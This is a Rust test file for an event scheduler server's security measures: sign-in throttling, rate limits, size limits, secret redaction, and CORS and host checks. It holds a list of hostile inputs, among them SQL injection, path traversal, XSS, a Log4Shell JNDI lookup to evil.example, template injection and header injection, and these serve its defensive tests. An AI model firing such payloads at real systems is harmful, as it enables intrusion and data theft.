//! Guessing, flooding, foreign pages and hostile texts.

use client_event_scheduler_server::access::AccessSettings;
use reqwest::{Method, StatusCode, header};
use serde_json::{Value, json};

use crate::support::access::{Credential, PASSWORD, SETUP_TOKEN};
use crate::support::{TestServer, answer, event, text};

const SESSION: &str = "/api/v1/session";
const USERS: &str = "/api/v1/admin/users";
const TOO_MANY: StatusCode = StatusCode::TOO_MANY_REQUESTS;

/// Texts that have broken other servers.
const HOSTILE: [&str; 9] = [
    "'; DROP TABLE users; --",
    "\" OR \"\"=\"",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "name\r\nset-cookie: a=b",
    "\u{202e}nimda\u{0}",
];

#[tokio::test]
async fn guesses_at_one_account_are_slowed_down_and_time_heals() {
    let server = TestServer::secured().await;
    server.set_up().await;
    for _ in 0..5 {
        assert_eq!(server.try_sign_in("root", "a wrong password").await.1["code"], "SIGN_IN_FAILED");
    }
    let body = json!({"name": "Root", "password": PASSWORD});
    let response = server.request(Method::POST, SESSION).json(&body).send().await.expect("an answer");
    assert_eq!(response.status(), TOO_MANY, "not even the right password");
    assert_eq!(response.headers()[header::RETRY_AFTER], "60");
    assert_eq!(response.headers()[header::CONTENT_TYPE], "application/problem+json");
    assert_eq!(server.try_sign_in("somebody else", PASSWORD).await.0, StatusCode::UNAUTHORIZED);
    server.clock.advance(59_999);
    assert_eq!(server.try_sign_in("root", PASSWORD).await.0, TOO_MANY);
    server.clock.advance(1);
    assert_eq!(server.try_sign_in("root", PASSWORD).await.0, StatusCode::OK);
}

#[tokio::test]
async fn guesses_at_many_accounts_from_one_address_are_slowed_down_and_others_are_not() {
    let server = TestServer::secured_with(trust_loopback).await;
    server.set_up().await;
    let guess = async |name: String, from: &str| {
        let body = json!({"name": name, "password": "a wrong password"});
        let request = server.request(Method::POST, SESSION).header("x-forwarded-for", from).json(&body);
        request.send().await.expect("an answer").status()
    };
    for index in 0..30 {
        assert_eq!(guess(format!("user {index}"), "198.51.100.7").await, StatusCode::UNAUTHORIZED, "{index}");
    }
    assert_eq!(guess("user 30".into(), "198.51.100.7").await, TOO_MANY);
    assert_eq!(guess("user 30".into(), "198.51.100.8").await, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn guesses_at_one_account_from_everywhere_are_slowed_down() {
    let server = TestServer::secured_with(trust_loopback).await;
    server.set_up().await;
    let mut answers = Vec::new();
    for index in 0..31 {
        let body = json!({"name": "root", "password": "a wrong password"});
        let from = format!("198.51.100.{index}");
        let request = server.request(Method::POST, SESSION).header("x-forwarded-for", from).json(&body);
        answers.push(request.send().await.expect("an answer").status());
    }
    assert!(answers[..30].iter().all(|status| *status == StatusCode::UNAUTHORIZED), "{answers:?}");
    assert_eq!(answers[30], TOO_MANY);
}

#[tokio::test]
async fn an_unknown_name_costs_as_much_as_a_wrong_password_and_gets_the_same_answer() {
    let server = TestServer::secured().await;
    let admin = server.set_up().await;
    let id = server.add_user(&admin, "off", "organizer").await;
    server.done_as(&admin, Method::PUT, &format!("{USERS}/{id}"), Some(&json!({"disabled": true}))).await;
    let compared = || server.app().access().passwords().compared();
    let mut answers = Vec::new();
    for (name, password) in [("root", "a wrong password"), ("nobody", PASSWORD), ("off", PASSWORD)] {
        let before = compared();
        let (status, mut answer) = server.try_sign_in(name, password).await;
        // Each request has an id of its own.
        answer["request_id"].take();
        answers.push((status, answer));
        assert_eq!(compared() - before, 1, "{name}");
    }
    assert_eq!(answers[0], answers[1]);
    assert_eq!(answers[1], answers[2]);
}

#[tokio::test]
async fn whoever_asks_too_often_waits_and_nobody_else_does() {
    let server = TestServer::secured_with(|settings| settings.requests_per_second = 2).await;
    let admin = server.set_up().await;
    let (key, _) = server.add_key(&admin, "mailer", &["feed:read"]).await;
    let snapshot = "/api/v1/scheduler/snapshot";
    for _ in 0..20 {
        server.done_as(&key, Method::GET, snapshot, None).await;
    }
    server.refused_as(&key, Method::GET, snapshot, None, (TOO_MANY, "TOO_MANY_REQUESTS")).await;
    server.done_as(&admin, Method::GET, snapshot, None).await;
    server.clock.advance(500);
    server.done_as(&key, Method::GET, snapshot, None).await;
    server.refused_as(&key, Method::GET, snapshot, None, (TOO_MANY, "TOO_MANY_REQUESTS")).await;
}

#[tokio::test]
async fn a_stranger_who_asks_too_often_waits_too() {
    let server = TestServer::secured_with(|settings| settings.requests_per_second = 1).await;
    for _ in 0..40 {
        assert_eq!(server.send(Method::GET, "/health", None).await.0, StatusCode::OK);
    }
    let (status, problem) = server.send(Method::GET, "/health", None).await;
    assert_eq!((status, &problem["code"]), (TOO_MANY, &json!("TOO_MANY_REQUESTS")));
}

#[tokio::test]
async fn hostile_texts_are_texts_in_every_field() {
    let server = TestServer::secured().await;
    let admin = server.set_up().await;
    for (index, hostile) in HOSTILE.into_iter().enumerate() {
        let control = hostile.chars().any(char::is_control);
        let body = json!({"name": hostile, "role": "organizer", "password": format!("{hostile}{PASSWORD}")});
        let (status, answer) = server.send_as(&admin, Method::POST, USERS, Some(&body)).await;
        if control {
            assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{hostile:?}: {answer}");
        } else {
            assert_eq!((status, &answer["user"]["name"]), (StatusCode::CREATED, &json!(hostile)), "{answer}");
            let body = json!({"name": hostile, "password": format!("{hostile}{PASSWORD}")});
            assert_eq!(
                server.send(Method::POST, SESSION, Some(&body)).await.0,
                StatusCode::OK,
                "{hostile:?}"
            );
        }
        for body in [json!({"role": hostile}), json!({"name": "x", "role": hostile, "password": PASSWORD})] {
            let (method, path) = match body.get("name") {
                Some(_) => (Method::POST, USERS.to_owned()),
                None => (Method::PUT, format!("{USERS}/nobody")),
            };
            let (status, answer) = server.send_as(&admin, method, &path, Some(&body)).await;
            assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{hostile:?}: {answer}");
        }
        let key = json!({"service": hostile, "scopes": [hostile]});
        let (status, _) = server.send_as(&admin, Method::POST, "/api/v1/admin/api-keys", Some(&key)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{hostile:?}");
        in_addresses(&server, &admin, hostile).await;
        let mut event = event(&format!("e{index}"));
        event["event_name"] = json!(hostile);
        let created = server.done_as(&admin, Method::POST, "/api/v1/admin/events/create", Some(&event)).await;
        assert_eq!(created["event"]["event_name"], hostile);
    }
    assert!(server.done_as(&admin, Method::GET, USERS, None).await["users"][0]["name"].is_string());
}

async fn in_addresses(server: &TestServer, admin: &Credential, hostile: &str) {
    let encoded: String = hostile.bytes().map(|byte| format!("%{byte:02X}")).collect();
    for (method, path) in [
        (Method::DELETE, format!("{USERS}/{encoded}")),
        (Method::DELETE, format!("/api/v1/admin/api-keys/{encoded}")),
        (Method::DELETE, format!("/api/v1/sessions/{encoded}")),
        (Method::DELETE, format!("/api/v1/admin/events/delete/{encoded}")),
    ] {
        let (status, answer) = server.send_as(admin, method, &path, None).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}: {answer}");
    }
    for filter in ["actor", "target", "outcome", "route", "code"] {
        let path = format!("/api/v1/admin/audit?{filter}={encoded}&before=1");
        let (status, listed) = server.send_as(admin, Method::GET, &path, None).await;
        if hostile.chars().any(char::is_control) {
            assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{path}");
        } else {
            assert_eq!(listed["entries"], json!([]), "{path}");
        }
    }
    let (status, _) = server.try_sign_in(hostile, "a wrong password").await;
    assert!([StatusCode::UNAUTHORIZED, TOO_MANY].contains(&status), "{hostile:?}: {status}");
}

#[tokio::test]
async fn what_is_too_large_is_refused() {
    let server = TestServer::secured().await;
    let admin = server.set_up().await;
    let long = "x".repeat(70_000);
    for body in [json!({"name": long, "password": PASSWORD}), json!({"name": "root", "password": long})] {
        let (status, problem) = server.send(Method::POST, SESSION, Some(&body)).await;
        assert_eq!((status, &problem["code"]), (StatusCode::PAYLOAD_TOO_LARGE, &json!("LIMIT_EXCEEDED")));
    }
    for (field, value, code) in
        [("name", "n".repeat(129), "TEXT_TOO_LONG"), ("password", "p".repeat(1_025), "PASSWORD_TOO_LONG")]
    {
        let mut body = json!({"name": "new", "role": "organizer", "password": PASSWORD});
        body[field] = json!(value);
        let (status, problem) = server.send_as(&admin, Method::POST, USERS, Some(&body)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(
            (&problem["problems"][0]["field"], &problem["problems"][0]["code"]),
            (&json!(field), &json!(code))
        );
    }
    // A password that nobody can have is not hashed, and gets the answer of any wrong one.
    assert_eq!(server.try_sign_in("root", &"p".repeat(1_025)).await.1["code"], "SIGN_IN_FAILED");
}

#[tokio::test]
async fn a_flood_of_headers_is_refused_before_anything_reads_them() {
    let server = TestServer::secured().await;
    let mut many = server.request(Method::GET, "/health");
    for index in 0..200 {
        many = many.header(format!("x-flood-{index}"), "1");
    }
    let large = server.request(Method::GET, "/health").header("x-large", "x".repeat(900_000));
    for request in [many, large] {
        let status = request.send().await.expect("an answer").status();
        assert_eq!(status, StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
    }
    assert_eq!(server.send(Method::GET, "/health", None).await.0, StatusCode::OK);
}

#[tokio::test]
async fn no_answer_repeats_a_password_or_a_token() {
    let server = TestServer::secured().await;
    let secret = "3141592653589793238";
    for (path, body) in [
        ("/api/v1/setup", format!(r#"{{"token":"{SETUP_TOKEN}","name":"root","password":{secret}}}"#)),
        (SESSION, format!(r#"{{"name":"root","password":{secret}}}"#)),
        (SESSION, format!(r#"{{"name":"root","password":"{secret}""#)),
    ] {
        let request =
            server.request(Method::POST, path).header("content-type", "application/json").body(body);
        let (status, problem) = answer(request).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(!problem.to_string().contains(secret), "{problem}");
    }
}

#[tokio::test]
async fn a_foreign_page_is_refused_and_audited() {
    let server = TestServer::secured().await;
    let admin = server.set_up().await;
    for (name, value) in
        [("origin", "https://evil.example"), ("sec-fetch-site", "cross-site"), ("origin", "null")]
    {
        let request = admin.on(server.request(Method::DELETE, SESSION)).header(name, value);
        assert_eq!(answer(request).await.1["code"], "CROSS_ORIGIN", "{name}: {value}");
    }
    let request = server.request(Method::GET, "/health").header(header::HOST, "rebound.example");
    assert_eq!(answer(request).await.1["code"], "HOST_NOT_ALLOWED");
    assert_eq!(server.audit(&admin, "code=CROSS_ORIGIN").await.len(), 3);
    assert_eq!(server.audit(&admin, "code=HOST_NOT_ALLOWED").await.len(), 1);
}

#[tokio::test]
async fn pages_of_the_allowed_origins_may_call_and_no_others() {
    let allowed = "https://admin.example.org";
    let server = TestServer::secured_with(|settings| {
        settings.allowed_origins = vec![allowed.parse().expect("an origin")];
    })
    .await;
    server.set_up().await;
    let preflight = async |origin: &str| {
        let request = server.request(Method::OPTIONS, SESSION).header("origin", origin);
        let request = request.header("access-control-request-method", "DELETE");
        request.header("access-control-request-headers", "x-csrf-token").send().await.expect("an answer")
    };
    let response = preflight(allowed).await;
    let headers = response.headers();
    assert_eq!(headers[header::ACCESS_CONTROL_ALLOW_ORIGIN], allowed);
    assert_eq!(headers[header::ACCESS_CONTROL_ALLOW_CREDENTIALS], "true");
    assert!(text_of(headers, header::ACCESS_CONTROL_ALLOW_HEADERS).contains("x-csrf-token"));
    assert!(text_of(headers, header::VARY).to_lowercase().contains("origin"));
    for foreign in
        ["https://evil.example", "https://admin.example.org.evil.example", "http://admin.example.org", "null"]
    {
        let response = preflight(foreign).await;
        assert!(!response.headers().contains_key(header::ACCESS_CONTROL_ALLOW_ORIGIN), "{foreign}");
        assert!(text_of(response.headers(), header::VARY).to_lowercase().contains("origin"));
    }
    let body = json!({"name": "root", "password": PASSWORD});
    let sign_in = |origin: &str| {
        let request = server.request(Method::POST, SESSION).header("origin", origin);
        request.header("sec-fetch-site", "same-site").json(&body)
    };
    let response = sign_in(allowed).send().await.expect("an answer");
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()[header::ACCESS_CONTROL_ALLOW_ORIGIN], allowed);
    assert_eq!(answer(sign_in("https://evil.example")).await.1["code"], "CROSS_ORIGIN");
}

fn text_of(headers: &header::HeaderMap, name: header::HeaderName) -> String {
    let values = headers.get_all(name).iter().map(|value| value.to_str().expect("text").to_owned());
    values.collect::<Vec<_>>().join(", ")
}

#[tokio::test]
async fn behind_tls_the_server_answers_to_its_name_and_asks_for_tls_for_ever() {
    let server = TestServer::secured_with(|settings| {
        settings.public_url = Some("https://events.example.org".parse().expect("an origin"));
    })
    .await;
    let named = |host: &str| server.request(Method::GET, "/health").header(header::HOST, host);
    for (host, expected) in [
        ("events.example.org", StatusCode::OK),
        ("EVENTS.example.org", StatusCode::OK),
        ("127.0.0.1:8005", StatusCode::OK),
        ("other.example.org", StatusCode::MISDIRECTED_REQUEST),
    ] {
        let response = named(host).send().await.expect("an answer");
        assert_eq!(response.status(), expected, "{host}");
        assert_eq!(
            response.headers()[header::STRICT_TRANSPORT_SECURITY],
            "max-age=31536000; includeSubDomains"
        );
    }
    let plain = TestServer::secured().await;
    let response = plain.request(Method::GET, "/health").send().await.expect("an answer");
    assert!(!response.headers().contains_key(header::STRICT_TRANSPORT_SECURITY));
}

fn trust_loopback(settings: &mut AccessSettings) {
    settings.trusted_proxies = vec!["127.0.0.1/32".parse().expect("a network")];
}

#[tokio::test]
async fn every_request_has_an_id_that_the_audit_knows() {
    let server = TestServer::secured().await;
    let admin = server.set_up().await;
    let request = server.request(Method::GET, USERS).header("x-request-id", "chosen by the client");
    let response = request.send().await.expect("an answer");
    let id = response.headers()["x-request-id"].to_str().expect("text").to_owned();
    assert_eq!(id.len(), 32);
    let rows: Vec<Value> = server.audit(&admin, "code=SIGN_IN_REQUIRED").await;
    assert_eq!(text(&rows[0]["request_id"]), id);
}
